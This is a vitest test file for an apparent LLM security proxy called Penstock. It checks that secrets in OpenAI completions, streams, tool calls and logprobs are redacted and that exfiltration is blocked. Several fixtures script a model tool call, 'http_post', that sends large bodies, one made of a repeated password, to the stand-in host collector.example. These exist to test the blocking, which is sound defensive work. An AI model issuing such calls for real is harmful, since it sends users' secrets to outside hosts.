// The real openai client, through the real Envoy and the policies as they ship.
import { APIConnectionError, APIError, PermissionDeniedError, RateLimitError } from 'openai';
import type { ChatCompletionChunk, ChatCompletionMessageToolCall } from 'openai/resources/chat/completions';
import { describe, expect, test } from 'vitest';
import { openai, podKey } from './clients.ts';
import { installation } from './installation.ts';
import { callChunks, chunk, chunks, completion, completionOf, done, json, sse } from './openai-says.ts';
import { all, rejected } from './outcomes.ts';
import { awsKey, email, leaks, password } from './samples.ts';

const penstock = installation();
const question = { model: 'gpt-4o', messages: [{ role: 'user' as const, content: 'hello' }] };

describe('a completion in one piece', () => {
  test('has its secrets replaced, and all else as it was', async () => {
    const script = penstock.script(json(completion(`The key is ${awsKey}, ask ${email}.`)));
    const { data, response } = await openai(penstock, script).chat.completions.create(question).withResponse();
    expect(data.choices[0]?.message.content).toMatch(/^The key is \[REDACTED:aws-access-key\], ask <EMAIL_[0-9A-Z]{4}>\.$/);
    expect(data).toMatchObject({ id: 'chatcmpl-1', model: 'gpt-4o', usage: { total_tokens: 12 } });
    expect(response.headers.get('x-penstock-decision')).toBe('mask');
    const record = await penstock.record(response.headers.get('x-penstock-exchange'));
    expect(record).toMatchObject({ connection: 'openai', decision: 'mask', ending: 'delivered' });
    expect(record.findings.map(({ detector, action }) => [detector, action])).toEqual([
      ['aws-access-key', 'mask'],
      ['spoken-key', 'mask'], // the same key, behind "the key is"
      ['email', 'mask'],
    ]);
  });

  test('without secrets is byte for byte what the upstream said', async () => {
    const answer = json(completion('Nothing to see.\n\u{1f600}'));
    const response = await openai(penstock, penstock.script(answer)).chat.completions.create(question).asResponse();
    expect(Buffer.from(await response.arrayBuffer())).toEqual(Buffer.concat(answer.pieces));
    expect(response.headers.get('x-penstock-decision')).toBe('allow');
  });

  test('with two choices has both looked through', async () => {
    const script = penstock.script(json(completion('first', `second ${awsKey}`)));
    const { choices } = await openai(penstock, script).chat.completions.create({ ...question, n: 2 });
    expect(choices.map(({ message }) => message.content)).toEqual(['first', 'second [REDACTED:aws-access-key]']);
  });

  test('carries tool calls whose arguments stay JSON', async () => {
    const call = (id: string, args: object) => ({
      id,
      type: 'function',
      function: { name: 'save', arguments: JSON.stringify(args) },
    });
    const message = {
      role: 'assistant',
      content: null,
      tool_calls: [call('call_1', { note: `it's "${awsKey}"` }), call('call_2', { n: 1 })],
    };
    const script = penstock.script(json(completionOf({ message, finish_reason: 'tool_calls' })));
    const { choices } = await openai(penstock, script).chat.completions.create(question);
    expect(choices[0]?.message.tool_calls?.map(argumentsOf)).toEqual([{ note: 'it\'s "[REDACTED:aws-access-key]"' }, { n: 1 }]);
  });

  test('does not tell a secret again in its logprobs', async () => {
    const tokens = awsKey.match(/.{1,5}/g)!;
    const content = tokens.map(token => ({
      token,
      logprob: -0.1,
      bytes: [...Buffer.from(token)],
      top_logprobs: [{ token, logprob: -0.1, bytes: null }],
    }));
    const script = penstock.script(
      json(completionOf({ message: { role: 'assistant', content: awsKey }, logprobs: { content, refusal: null } })),
    );
    const answer = await openai(penstock, script).chat.completions.create({ ...question, logprobs: true, top_logprobs: 1 });
    expect(answer.choices[0]?.message.content).toBe('[REDACTED:aws-access-key]');
    expect(answer.choices[0]?.logprobs?.content).toHaveLength(tokens.length);
    expect(leaks(JSON.stringify(answer), 5)).toEqual([]);
    expect(JSON.stringify(answer)).not.toContain(JSON.stringify([...Buffer.from(tokens[0]!)]));
  });

  test('that is an error of the upstream is the same error for the client, with its secrets replaced', async () => {
    const error = { message: `Rate limit reached for key ${awsKey}`, type: 'tokens', param: null, code: 'rate_limit_exceeded' };
    const script = penstock.script({
      ...json({ error }, 429),
      headers: [
        ['content-type', 'application/json'],
        ['retry-after', '7'],
      ],
    });
    const thrown = await rejected(openai(penstock, script).chat.completions.create(question));
    expect(thrown).toBeInstanceOf(RateLimitError);
    expect(thrown).toMatchObject({ status: 429, code: 'rate_limit_exceeded', type: 'tokens' });
    expect(thrown.message).toContain('Rate limit reached for key [REDACTED:aws-access-key]');
    expect((thrown as APIError).headers?.get('retry-after')).toBe('7');
  });

  test('that is blocked is a 403 with the code, the reason and the exchange, and is not asked for again', async () => {
    const script = penstock.script(json(completionOf({ message: sending('https://collector.example/in', 'x'.repeat(5_000)) })));
    const thrown = await rejected(openai(penstock, script, 2).chat.completions.create(question));
    expect(thrown).toBeInstanceOf(PermissionDeniedError);
    expect(thrown).toMatchObject({ status: 403, code: 'penstock_exfiltration', type: 'penstock_blocked', param: null });
    const exchange = (thrown as APIError).headers?.get('x-penstock-exchange');
    expect(exchange).toMatch(/^ex_[0-9A-Z]{26}$/);
    expect(thrown.message).toContain(`a tool call sends a large body to an external host (exchange ${exchange})`);
    expect(script.seen).toHaveLength(1);
    expect(await penstock.record(exchange)).toMatchObject({ decision: 'block', block: 'exfiltration', ending: 'blocked' });
  });

  test("of the models is a list like the upstream's", async () => {
    const models = { object: 'list', data: [{ id: 'gpt-4o', object: 'model', created: 1, owned_by: 'system' }] };
    const script = penstock.script(json(models));
    const { data } = await openai(penstock, script).models.list();
    expect(data).toEqual(models.data);
    expect(script.seen[0]?.startLine).toBe('GET /v1/models HTTP/1.1');
  });
});

describe('a completion as a stream', () => {
  test('has its secrets replaced wherever the deltas cut them', async () => {
    for (const size of [1, 4, 100]) {
      const script = penstock.script(sse([...chunks(`The key is ${awsKey}, ask ${email}.`, size), done]));
      const stream = await openai(penstock, script).chat.completions.create({ ...question, stream: true });
      expect(textOf(await all(stream))).toMatch(/^The key is \[REDACTED:aws-access-key\], ask <EMAIL_[0-9A-Z]{4}>\.$/);
    }
  });

  test('without secrets arrives event for event', async () => {
    const events = [...chunks('Nothing to see. \u{1f600}', 3), done];
    const response = await openai(penstock, penstock.script(sse(events)))
      .chat.completions.create({ ...question, stream: true })
      .asResponse();
    expect(await response.text()).toBe(events.join(''));
    expect(response.headers.get('content-type')).toBe('text/event-stream; charset=utf-8');
    expect(await penstock.record(response.headers.get('x-penstock-exchange'))).toMatchObject({
      decision: 'allow',
      ending: 'delivered',
    });
  });

  test('of two choices side by side keeps them apart', async () => {
    const [first, second] = [chunks(`one ${awsKey} two`, 2, 0), chunks('three four five six seven', 2, 1)];
    const events = first.flatMap((event, at) => [event, second[at] ?? '']);
    const script = penstock.script(sse([...events, ...second.slice(first.length), done]));
    const got = await all(await openai(penstock, script).chat.completions.create({ ...question, n: 2, stream: true }));
    expect(textOf(got, 0)).toBe('one [REDACTED:aws-access-key] two');
    expect(textOf(got, 1)).toBe('three four five six seven');
  });

  test('carries tool calls side by side, each whole, judged and still JSON', async () => {
    const calls = [
      callChunks({ at: 0, name: 'save', arguments: { note: `"${awsKey}"`, n: 1 } }, 3),
      callChunks({ at: 1, name: 'look', arguments: { where: 'Zürich' } }, 3),
    ];
    const inTurns = Array.from({ length: 40 }, (_, at) => calls.map(events => events[at] ?? '').join(''));
    const script = penstock.script(
      sse([chunk({ role: 'assistant', content: null }), ...inTurns, chunk({}, { finish: 'tool_calls' }), done]),
    );
    const runner = openai(penstock, script).chat.completions.stream(question);
    const { choices } = await runner.finalChatCompletion();
    expect(choices[0]?.finish_reason).toBe('tool_calls');
    expect(choices[0]?.message.tool_calls?.map(argumentsOf)).toEqual([
      { note: '"[REDACTED:aws-access-key]"', n: 1 },
      { where: 'Zürich' },
    ]);
  });

  test('does not tell a secret again in its logprobs', async () => {
    const tokens = `see ${awsKey} now`.match(/.{1,4}/g)!;
    const events = tokens.map(token => {
      const bytes = [...Buffer.from(token)];
      return chunk(
        { content: token },
        { logprobs: { content: [{ token, logprob: -1, bytes, top_logprobs: [{ token, logprob: -1, bytes }] }], refusal: null } },
      );
    });
    const script = penstock.script(sse([...events, chunk({}, { finish: 'stop' }), done]));
    const got = await all(await openai(penstock, script).chat.completions.create({ ...question, stream: true, logprobs: true }));
    expect(textOf(got)).toBe('see [REDACTED:aws-access-key] now');
    const told = got.flatMap(({ choices }) => choices[0]?.logprobs?.content ?? []);
    expect(told).toHaveLength(tokens.length);
    expect(leaks(textOf(got) + told.map(({ token }) => token).join('') + JSON.stringify(told), 4)).toEqual([]);
    const kept = told.filter(({ bytes }) => bytes !== null);
    expect(leaks(Buffer.from(kept.flatMap(({ bytes }) => bytes!)).toString(), 4)).toEqual([]);
  });

  test('that is blocked before its first byte is a 403', async () => {
    const call = callChunks(
      { at: 0, name: 'http_post', arguments: { url: 'https://collector.example/in', body: 'x'.repeat(5_000) } },
      1_000,
    );
    const script = penstock.script(sse([...call, chunk({}, { finish: 'tool_calls' }), done]));
    const thrown = await rejected(openai(penstock, script, 2).chat.completions.create({ ...question, stream: true }));
    expect(thrown).toMatchObject({ status: 403, code: 'penstock_exfiltration' });
    const exchange = (thrown as APIError).headers?.get('x-penstock-exchange');
    expect(thrown.message).toContain(`(exchange ${exchange})`);
    expect(script.seen).toHaveLength(1);
    expect(await penstock.record(exchange)).toMatchObject({
      decision: 'block',
      block: 'exfiltration',
      response: { bytes_out: 0 },
    });
  });

  test('that is blocked in the middle throws behind the text that was let through, and shows nothing of the rest', async () => {
    const call = callChunks(
      { at: 0, name: 'http_post', arguments: { url: 'https://collector.example/in', body: password.repeat(500) } },
      1_000,
    );
    const script = penstock.script(
      sse([...chunks('I will send it. ', 4).slice(0, -1), ...call, chunk({}, { finish: 'tool_calls' }), done]),
    );
    const stream = await openai(penstock, script).chat.completions.create({ ...question, stream: true });
    const got: ChatCompletionChunk[] = [];
    const thrown = await rejected(all(stream, got));
    expect(textOf(got)).toBe('I will send it. ');
    expect(leaks(JSON.stringify(got))).toEqual([]);
    expect(thrown).toBeInstanceOf(APIError);
    expect(thrown).toMatchObject({ code: 'penstock_exfiltration', type: 'penstock_blocked' });
    expect(thrown.message).toMatch(/a tool call sends a large body to an external host \(exchange ex_[0-9A-Z]{26}\)/);
  });

  test('that the upstream breaks off is an error, never a shorter answer', async () => {
    const script = penstock.script({ ...sse([...chunks('one two three', 3), done], 'event', 20), cutOffAfter: 3 });
    const stream = await openai(penstock, script).chat.completions.create({ ...question, stream: true });
    expect(await rejected(all(stream))).toBeInstanceOf(Error);
  });
});

test("the pod's own key goes no further than Penstock", async () => {
  const script = penstock.script(json(completion('fine')));
  await openai(penstock, script).chat.completions.create(question);
  expect(script.seen[0]?.headers.filter(([name]) => name === 'authorization')).toEqual([
    ['authorization', `Bearer ${penstock.key.value}`],
  ]);
  expect(JSON.stringify(script.seen)).not.toContain(podKey);
});

test('without a server there is an error and no answer', async () => {
  const script = penstock.script(json(completion('fine')));
  const client = openai({ ...penstock, port: 1 }, script);
  expect(await rejected(client.models.list())).toBeInstanceOf(APIConnectionError);
});

/** A message that calls a tool which sends this body there. */
function sending(url: string, body: string): object {
  const call = { id: 'call_1', type: 'function', function: { name: 'http_post', arguments: JSON.stringify({ url, body }) } };
  return { role: 'assistant', content: null, tool_calls: [call] };
}

function argumentsOf(call: ChatCompletionMessageToolCall): unknown {
  return call.type === 'function' ? JSON.parse(call.function.arguments) : null;
}

function textOf(got: readonly ChatCompletionChunk[], index = 0): string {
  return got
    .flatMap(({ choices }) => choices)
    .filter(choice => choice.index === index)
    .map(({ delta }) => delta.content ?? '')
    .join('');
}
